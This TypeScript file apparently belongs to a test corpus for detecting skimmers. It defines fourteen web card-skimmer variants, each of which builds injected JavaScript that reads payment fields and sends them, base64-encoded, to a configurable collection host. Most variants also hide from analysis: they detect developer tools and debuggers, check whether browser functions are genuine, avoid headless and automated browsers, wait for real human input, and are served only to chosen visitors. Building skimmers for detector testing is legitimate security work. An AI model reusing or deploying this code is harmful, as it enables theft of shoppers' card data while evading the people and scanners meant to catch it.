import { onlyWhen, sendsOnlyWhen } from './core.ts';
import { ON_PAY, type SkimmerVariant, takeCode } from './types.ts';

/** A thief that the content network gives out only to some; everybody else gets what the twin gets. */
function servedOnly(
  id: string,
  idea: string,
  to: NonNullable<NonNullable<ReturnType<SkimmerVariant['build']>['files']>[string]['to']>,
): SkimmerVariant {
  const code = (collect: string, honest: boolean) =>
    `(() => { ${takeCode(honest)} function send() { new Image().src = '${collect}/i.gif?d=' + btoa(JSON.stringify(take())); } ${ON_PAY} })();`;
  return {
    ...{ id, idea, takes: ['card'] },
    build: ({ collect, cdn }, honest) => ({
      files: { '/lib.js': { type: 'text/javascript', body: code(collect, honest), to, others: code(collect, true) } },
      html: `<script src="${cdn}/lib.js"></script>`,
    }),
  };
}

/** Thieves that look who is there: at the person, the program, the time, the tools. */
export const watching: readonly SkimmerVariant[] = [
  sendsOnlyWhen(
    'tools-at-each-send',
    'looks for open tools by the size of the window each time before it sends',
    'outerWidth - innerWidth < 160 && outerHeight - innerHeight < 160',
  ),
  sendsOnlyWhen(
    'tools-by-resize',
    'keeps watch on the size of the window and is silent while tools seem open',
    '!open',
    `let open = false; const look = () => { open = outerWidth - innerWidth > 160 || outerHeight - innerHeight > 160; }; look(); addEventListener('resize', look); setInterval(look, 500);`,
  ),
  sendsOnlyWhen(
    'debugger-at-each-send',
    'measures how long a debugger statement takes before it sends',
    `(() => { const t = performance.now(); (function () {}).constructor('debugger')(); return performance.now() - t < 100; })()`,
  ),
  sendsOnlyWhen(
    'getter-in-console',
    'writes an element to the console whose name tells when it is read',
    '!open',
    `let open = false; const bait = document.createElement('div'); Object.defineProperty(bait, 'id', { get() { open = true; return ''; } }); setInterval(() => { console.log(bait); console.clear(); }, 700);`,
  ),
  sendsOnlyWhen(
    'tools-by-event',
    'asks an old tool by its name, and listens to what a library tells of new ones',
    `!open && !(window.Firebug && window.Firebug.chrome && window.Firebug.chrome.isInitialized)`,
    `let open = false; addEventListener('devtoolschange', (e) => { open = e.detail && e.detail.isOpen; });`,
  ),
  sendsOnlyWhen(
    'functions-must-be-genuine',
    'looks at the text of functions, at the text of the function that gives texts, and at the error that a wrong call throws',
    `[fetch, btoa, Image, Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value').get, Function.prototype.toString].every((f) => /\\{\\s*\\[native code\\]\\s*\\}$/.test(Function.prototype.toString.call(f)) && !Object.hasOwn(f, 'toString')) && (() => { try { Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value').get.call({}); return false; } catch (e) { return /Illegal invocation/.test(e.message) && e.stack.split('\\n').length < 12; } })()`,
  ),
  onlyWhen(
    'shy-of-programs',
    'not for browsers that a program drives: extensions, brands, languages, focus, size of the screen',
    `navigator.webdriver !== true && navigator.plugins.length > 0 && navigator.languages.length > 0 && !!window.chrome && !/headless/i.test(navigator.userAgent) && !(navigator.userAgentData && navigator.userAgentData.brands.some((b) => /headless/i.test(b.brand))) && outerWidth > 0 && outerHeight > 0 && screen.width >= innerWidth && !('__playwright__binding__' in window) && !('_phantom' in window)`,
  ),
  {
    id: 'only-after-a-hand',
    idea: 'begins only when a mouse or a finger has moved and pressed several times, by a real hand',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: `(() => { let moved = 0; for (const n of ['mousemove', 'mousedown', 'touchstart', 'click', 'scroll', 'pointerdown']) addEventListener(n, (e) => { if (e.isTrusted) moved += 1; if (moved === 5) begin(); }, true); function begin() { ${takeCode(honest)} function send() { fetch('${collect}/m?' + btoa(JSON.stringify(take())), { mode: 'no-cors' }); } ${ON_PAY} } })();`,
    }),
  },
  {
    id: 'rhythm-of-keys',
    idea: 'only where keys come as slowly as from fingers',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: `(() => { const at = []; document.addEventListener('keydown', (e) => { if (/^\\d$/.test(e.key)) at.push(e.timeStamp); }, true); ${takeCode(honest)} function send() { const gaps = at.slice(1).map((t, i) => t - at[i]).sort((a, b) => a - b); if (gaps[Math.floor(gaps.length / 2)] >= 12) new Image().src = '${collect}/r.gif?' + btoa(JSON.stringify(take())); } ${ON_PAY} })();`,
    }),
  },
  {
    id: 'paste-only',
    idea: 'takes only what is pasted',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: `document.addEventListener('paste', (e) => { const t = (e.clipboardData || window.clipboardData).getData('text'); if (e.isTrusted) new Image().src = '${collect}/v.gif?d=' + ${honest ? 't.length' : 'btoa(t)'}; }, true);`,
    }),
  },
  {
    id: 'slow-keys',
    idea: 'holds the page up at every key while it works',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      script: `(() => { ${takeCode(honest)} let last = ''; document.addEventListener('keyup', () => { const end = performance.now() + 120; while (performance.now() < end); const d = JSON.stringify(take()); if (d !== last) { last = d; navigator.sendBeacon('${collect}/k', btoa(d)); } }, true); })();`,
    }),
  },
  servedOnly('served-by-language', 'given out only to who asks in the language of one country', 'language'),
  servedOnly('served-to-phones', 'given out only to phones', 'phones'),
  servedOnly('served-once', 'given out once; whoever asks again gets something clean', 'first'),
  servedOnly('served-from-second', 'given out only to who asks again', 'again'),
];
